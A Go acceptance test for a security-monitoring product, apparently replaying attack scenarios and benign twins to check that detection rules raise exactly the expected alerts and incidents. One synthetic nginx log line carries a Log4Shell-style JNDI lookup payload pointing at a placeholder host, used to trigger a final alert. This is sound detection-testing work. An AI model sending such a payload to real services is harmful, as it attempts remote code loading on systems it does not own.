package acceptance

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"icewatch/detections"
	"icewatch/detections/ruletest"
	"icewatch/detections/sigma"
	"icewatch/rules"
	"icewatch/soc/client"
	"icewatch/soc/identity"
	"icewatch/soc/intake"
)

// play is one case of a scenario, with a tenant, hosts and addresses of its own.
type play struct {
	name  string // scenario: case
	c     *ruletest.Case
	file  *ruletest.File
	stage *ruletest.Stage
	runs  []run
	token *client.Client
}

// run is what follows each other in one format: the next format is sent when
// all of it is stored, since a collector knows nothing of the others' order.
type run struct {
	format intake.Format
	lines  []string
}

// plays are the shipped scenarios, whose last lines are just over.
func plays(t *testing.T) []*play {
	t.Helper()
	files, err := fs.Glob(rules.FS, "scenarios/*.test.yml")
	if err != nil || len(files) < 15 {
		t.Fatalf("%d scenarios, %v", len(files), err)
	}
	latest := time.Now().Add(-30 * time.Second)
	var out []*play
	for _, name := range files {
		data, err := fs.ReadFile(rules.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		f, err := ruletest.Parse(data)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(f.Cases) < 3 {
			t.Errorf("%s: %d cases: an attack and two benign twins are wanted", name, len(f.Cases))
		}
		for i := range f.Cases {
			k := len(out)
			p := &play{name: strings.TrimSuffix(path.Base(name), ".test.yml") + ": " + f.Cases[i].Name, file: f, c: &f.Cases[i],
				stage: &ruletest.Stage{Net: fmt.Sprintf("10.%d", 100+k), Out: fmt.Sprintf("198.18.%d", k), ID: fmt.Sprintf("-%02d", k), Tenant: fmt.Sprintf("play-%02d", k)}}
			if p.c.Fires == nil || p.c.Incident == nil {
				t.Fatalf("%s: a scenario says exactly what fires, and whether that is an incident", p.name)
			}
			lines, err := p.stage.Lines(p.c, latest)
			if err != nil {
				t.Fatalf("%s: %v", p.name, err)
			}
			for _, l := range lines {
				format := ruletest.Format(l.Text)
				if n := len(p.runs); n == 0 || p.runs[n-1].format != format {
					p.runs = append(p.runs, run{format: format})
				}
				last := &p.runs[len(p.runs)-1]
				last.lines = append(last.lines, l.Text)
			}
			out = append(out, p)
		}
	}
	return out
}

// raisedAlert is an alert as far as scenarios say something of it.
type raisedAlert struct {
	Tenant     string
	Rule       struct{ ID string }
	IncidentID string             `json:"incident_id"`
	Attacker   *detections.Party  `json:"attacker"`
	Victim     *detections.Party  `json:"victim"`
	Verdict    detections.Verdict `json:"verdict"`
}

// TestScenarios plays each shipped scenario, an attack and its benign twins,
// over the suite's sockets: syslog by UDP and TCP, JSON by _bulk. All are
// played at once, each in a tenant of its own. What has to come of them is what
// the scenario says: exactly these alerts, of this attacker against this victim,
// and an incident or none.
func TestScenarios(t *testing.T) {
	t.Parallel()
	all := plays(t)
	tenants := t.TempDir()
	for _, slug := range append(slugs(all), "curtain") {
		dir := filepath.Join(tenants, slug)
		about := fmt.Sprintf("slug: %[1]s\nname: {zh: %[1]s, en: %[1]s}\ndomain: integrated-services\nprotection_level: 3\nretention: standard\n", slug)
		if err := os.Mkdir(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "tenant.yaml"), []byte(about), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s := newSuite(t, fmt.Sprintf("tenants:\n  dirs: [%s]\n", tenants))
	ctx := context.Background()
	s.stock(all)

	sent := 0
	for round := 0; ; round++ {
		more := false
		for k, p := range all {
			if round < len(p.runs) {
				more = true
				p.send(s, p.runs[round], k%2 == 0)
				sent += len(p.runs[round].lines)
			}
		}
		if !more {
			break
		}
		eventually(t, 2*time.Minute, fmt.Sprintf("round %d is stored", round), func() error {
			rows, err := s.admin.Search(ctx, always(`icewatch.tenant:="play-"* | stats count() n`))
			if err != nil {
				return err
			}
			if len(rows) != 1 || fmt.Sprint(rows[0]["n"]) != fmt.Sprint(sent) {
				return fmt.Errorf("%v of %d", rows, sent)
			}
			return nil
		})
	}

	// What comes last has been judged last: then all that fires has fired.
	s.sendTCP(fmt.Appendf(nil, "<190>%s curtain nginx: 192.0.2.9 - - [%s] \"GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1\" 404 0 \"-\" \"-\"\n",
		time.Now().Format(time.Stamp), time.Now().Format("02/Jan/2006:15:04:05 -0700")))
	eventually(t, time.Minute, "the last alert is there", func() error {
		list, err := s.admin.Alerts(ctx, url.Values{"tenant": {"curtain"}}, 10)
		if err == nil && len(list) == 0 {
			err = fmt.Errorf("no alert")
		}
		return err
	})
	names := ruleNames(t)
	byTenant := map[string][]raisedAlert{}
	for _, raw := range s.raw("/api/v1/alerts") {
		var a raisedAlert
		if err := json.Unmarshal(raw, &a); err != nil {
			t.Fatal(err)
		}
		byTenant[a.Tenant] = append(byTenant[a.Tenant], a)
	}
	incidents := map[string]int{}
	for _, raw := range s.raw("/api/v1/incidents") {
		var i struct{ Tenant string }
		if err := json.Unmarshal(raw, &i); err != nil {
			t.Fatal(err)
		}
		incidents[i.Tenant]++
	}
	attacks := 0
	for _, p := range all {
		if *p.c.Incident {
			attacks++
		}
		p.check(t, byTenant[p.stage.Tenant], incidents[p.stage.Tenant], names)
	}
	t.Logf("%d cases, %d of them incidents, %d events", len(all), attacks, sent)
}

func slugs(all []*play) []string {
	var out []string
	for _, p := range all {
		out = append(out, p.stage.Tenant)
	}
	return out
}

// stock puts the hosts of all plays into the CMDB, makes the tokens that they
// need, and waits until events know the last host.
func (s *suite) stock(all []*play) {
	s.t.Helper()
	items := []string{`{"class":"host","name":"curtain","tenant":"curtain","zone":"default","hostnames":["curtain"]}`}
	for _, p := range all {
		for _, it := range p.stage.Items(p.file, p.c) {
			b, err := json.Marshal(map[string]any{"class": it.Class, "name": it.Name, "tenant": it.Tenant, "zone": "default",
				"addresses": it.Addresses, "hostnames": it.Hostnames, "labels": it.Labels, "criticality": it.Criticality})
			if err != nil {
				s.t.Fatal(err)
			}
			items = append(items, string(b))
		}
		if slices.ContainsFunc(p.runs, func(r run) bool { return r.format == intake.JSON }) {
			p.token = s.token(p.stage.Tenant, identity.ScopeIngest)
		}
	}
	if err := s.imports("- " + strings.Join(items, "\n- ") + "\n"); err != nil {
		s.t.Fatal(err)
	}
	eventually(s.t, time.Minute, "events know the hosts", func() error {
		s.sendTCP([]byte("<13>1 - curtain probe - - - is anybody there\n"))
		rows, err := s.admin.Search(context.Background(), always(`"is anybody there" icewatch.ci.name:="curtain" | limit 1`))
		if err == nil && len(rows) == 0 {
			err = fmt.Errorf("no event does")
		}
		return err
	})
}

// send sends a run. What is short may go by UDP, which loses what comes too fast.
func (p *play) send(s *suite, r run, udp bool) {
	s.t.Helper()
	switch {
	case r.format == intake.JSON:
		var body bytes.Buffer
		for _, l := range r.lines {
			body.WriteString("{\"create\":{\"_index\":\"logs\"}}\n" + l + "\n")
		}
		if err := p.token.Send(context.Background(), http.MethodPost, "/elastic/_bulk", nil, http.Header{"Content-Type": {"application/x-ndjson"}}, &body, nil); err != nil {
			s.t.Fatalf("%s: %v", p.name, err)
		}
	case r.format == intake.Syslog && udp && len(r.lines) <= 20:
		parts := make([][]byte, len(r.lines))
		for i, l := range r.lines {
			parts[i] = []byte(l)
		}
		s.sendUDP(parts...)
	case r.format == intake.Syslog:
		s.sendTCP([]byte(strings.Join(r.lines, "\n") + "\n"))
	default:
		s.t.Fatalf("%s: a line is neither syslog nor JSON: %s", p.name, r.lines[0])
	}
}

// check compares what came of a play with what its scenario says.
func (p *play) check(t *testing.T, alerts []raisedAlert, incidents int, names map[string]string) {
	t.Helper()
	var got []string
	for _, a := range alerts {
		name := names[a.Rule.ID]
		got = append(got, name)
		if name != p.c.Rule {
			continue
		}
		if want := p.stage.Text(p.c.Attacker); want != "" && !ruletest.Is(a.Attacker, want) {
			t.Errorf("%s: %s: the attacker is %+v, not %s", p.name, name, a.Attacker, want)
		}
		if want := p.stage.Text(p.c.Victim); want != "" && !ruletest.Is(a.Victim, want) {
			t.Errorf("%s: %s: the victim is %+v, not %s", p.name, name, a.Victim, want)
		}
		if *p.c.Incident && a.IncidentID == "" {
			t.Errorf("%s: %s is in no incident", p.name, name)
		}
	}
	slices.Sort(got)
	want := slices.Sorted(slices.Values(*p.c.Fires))
	if got = slices.Compact(got); !slices.Equal(got, want) {
		t.Errorf("%s (%s):\n got %v\nwant %v", p.name, p.stage.Tenant, got, want)
	}
	if *p.c.Incident != (incidents > 0) {
		t.Errorf("%s (%s): %d incidents", p.name, p.stage.Tenant, incidents)
	}
}

// raw lists all items of a list as the suite writes them.
func (s *suite) raw(path string) []json.RawMessage {
	s.t.Helper()
	list, err := s.admin.Raw(context.Background(), path, url.Values{"limit": {"200"}}, 0)
	if err != nil {
		s.t.Fatal(err)
	}
	return list
}

// ruleNames are the names of the shipped rules by id.
func ruleNames(t *testing.T) map[string]string {
	t.Helper()
	names := map[string]string{}
	for _, dir := range []string{"sigma", "correlation"} {
		err := fs.WalkDir(rules.FS, dir, func(name string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || strings.HasSuffix(name, ".test.yml") {
				return err
			}
			data, err := fs.ReadFile(rules.FS, name)
			if err != nil {
				return err
			}
			list, errs := sigma.Parse(data, nil)
			if len(errs) > 0 {
				return fmt.Errorf("%s: %v", name, errs[0])
			}
			for _, r := range list {
				names[r.ID] = r.Name
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return names
}
